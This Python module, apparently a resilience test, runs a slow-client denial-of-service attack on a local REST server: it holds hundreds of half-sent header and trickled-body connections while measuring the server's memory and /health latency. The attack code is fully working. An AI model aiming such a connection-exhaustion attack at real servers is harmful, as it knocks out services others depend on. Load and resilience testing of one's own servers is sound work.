"""A slow-client attack on a REST server over raw sockets, and what it did to the server.

Two kinds of attacking connection, as an adversary opens them: ones that send a request's headers
(without a token) and then part of a large body, and ones that send only part of the request
headers. While they hold, the server's resident memory is sampled from /proc and /health is asked
on fresh connections, timing each answer.
"""

from __future__ import annotations

import select
import socket
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

CHUNK = 256 << 10


def rss_bytes(pid: int) -> int:
    """A process's resident set size, from /proc/PID/status."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise RuntimeError(f"no VmRSS line in /proc/{pid}/status")


@dataclass
class AttackReport:
    """What the server did while attacked."""

    idle_rss: int
    peak_rss: int = 0
    health: list[tuple[int | str, float]] = field(default_factory=list)  # (status or error, seconds)
    body_sent: list[int] = field(default_factory=list)  # bytes each body connection got to send
    body_answers: list[str] = field(default_factory=list)  # each body connection's first answer line
    headers_closed: int = 0  # half-header connections the server closed
    headers_open: int = 0  # half-header connections still open at the end

    @property
    def ratio(self) -> float:
        return self.peak_rss / self.idle_rss

    def health_ms(self) -> list[float]:
        return sorted(s * 1e3 for status, s in self.health if status == 200)

    def summary(self) -> str:
        ms = self.health_ms()
        latency = (
            f"/health p50 {ms[len(ms) // 2]:.1f} ms, max {ms[-1]:.1f} ms over {len(ms)} answers"
            if ms
            else "/health never answered 200"
        )
        failed = [s for s, _ in self.health if s != 200]
        answers = {a: self.body_answers.count(a) for a in sorted(set(self.body_answers))}
        return (
            f"RSS idle {self.idle_rss / 2**20:.0f} MB, peak {self.peak_rss / 2**20:.0f} MB "
            f"(x{self.ratio:.2f}); {latency}; other /health outcomes {failed[:5]}; "
            f"body connections sent {sum(self.body_sent) / 2**20:.0f} MB and got {answers}; "
            f"half-header connections closed by the server {self.headers_closed}, still open {self.headers_open}"
        )


def health_once(host: str, port: int, timeout: float) -> tuple[int | str, float]:
    """GET /health on a fresh connection: (status or error name, seconds to the whole answer)."""
    start = time.perf_counter()
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            s.sendall(f"GET /health HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        status: int | str = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else f"no answer {data[:40]!r}"
    except OSError as exc:
        status = type(exc).__name__
    return status, time.perf_counter() - start


def closed_by_peer(sock: socket.socket) -> bool:
    """True if the server closed (or reset) this connection; whatever it sent first is discarded."""
    try:
        readable, _, _ = select.select([sock], [], [], 0)
        if not readable:
            return False
        while True:
            data = sock.recv(65536, socket.MSG_DONTWAIT)
            if not data:
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def slow_attack(
    host: str,
    port: int,
    pid: int,
    *,
    body_connections: int = 60,
    body_bytes: int = 16 << 20,
    header_connections: int = 300,
    hold_seconds: float = 8.0,
    close_wait_seconds: float = 0.0,
    path: str = "/predict",
    health_timeout: float = 10.0,
) -> AttackReport:
    """Open ``body_connections`` connections that each send headers declaring twice ``body_bytes``
    and then ``body_bytes`` of it (no token), and ``header_connections`` that send half a request's
    headers; hold them ``hold_seconds`` while sampling the server's RSS and timing /health, then
    wait up to ``close_wait_seconds`` more for the server to close the half-header connections."""
    for _ in range(3):
        health_once(host, port, health_timeout)
    report = AttackReport(idle_rss=rss_bytes(pid))
    report.peak_rss = report.idle_rss
    stop = threading.Event()

    def sample() -> None:
        while not stop.is_set():
            try:
                report.peak_rss = max(report.peak_rss, rss_bytes(pid))
            except (OSError, RuntimeError):
                return
            time.sleep(0.05)

    def send_body(_: int) -> tuple[socket.socket | None, int, str]:
        try:
            s = socket.create_connection((host, port), timeout=5)
        except OSError as exc:
            return None, 0, f"connect failed: {type(exc).__name__}"
        head = (
            f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {2 * body_bytes}\r\n\r\n"
        ).encode()
        sent = 0
        s.settimeout(1.0)  # a server that stops reading makes a send block: then hold instead
        try:
            s.sendall(head + b'{"records": [')
            chunk = b" " * CHUNK
            while sent < body_bytes:
                s.sendall(chunk)
                sent += len(chunk)
        except (TimeoutError, OSError):
            pass
        return s, sent, ""

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    bodies: list[socket.socket] = []
    halves: list[socket.socket] = []
    try:
        with ThreadPoolExecutor(max_workers=max(1, body_connections)) as pool:
            for s, sent, error in pool.map(send_body, range(body_connections)):
                report.body_sent.append(sent)
                if s is None:
                    report.body_answers.append(error)
                else:
                    bodies.append(s)
        for _ in range(header_connections):
            h = socket.create_connection((host, port), timeout=5)
            h.sendall(f"GET /health HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode())
            halves.append(h)
        deadline = time.monotonic() + hold_seconds
        while time.monotonic() < deadline:
            report.health.append(health_once(host, port, health_timeout))
            time.sleep(0.1)
        for s in bodies:
            report.body_answers.append(first_answer(s))
        wait_until = time.monotonic() + close_wait_seconds
        open_ = list(halves)
        while True:
            open_ = [h for h in open_ if not closed_by_peer(h)]
            if not open_ or time.monotonic() >= wait_until:
                break
            time.sleep(0.2)
        report.headers_open = len(open_)
        report.headers_closed = len(halves) - len(open_)
    finally:
        stop.set()
        sampler.join(timeout=5)
        for s in bodies + halves:
            s.close()
    return report


def first_answer(sock: socket.socket) -> str:
    """The status line the server sent on this connection, 'closed' or 'reset' without one, or
    'open' if it sent nothing and kept the connection."""
    try:
        readable, _, _ = select.select([sock], [], [], 0)
        if not readable:
            return "open"
        data = sock.recv(4096, socket.MSG_DONTWAIT)
    except BlockingIOError:
        return "open"
    except OSError:
        return "reset"
    if not data:
        return "closed"
    return data.split(b"\r\n", 1)[0].decode(errors="replace")
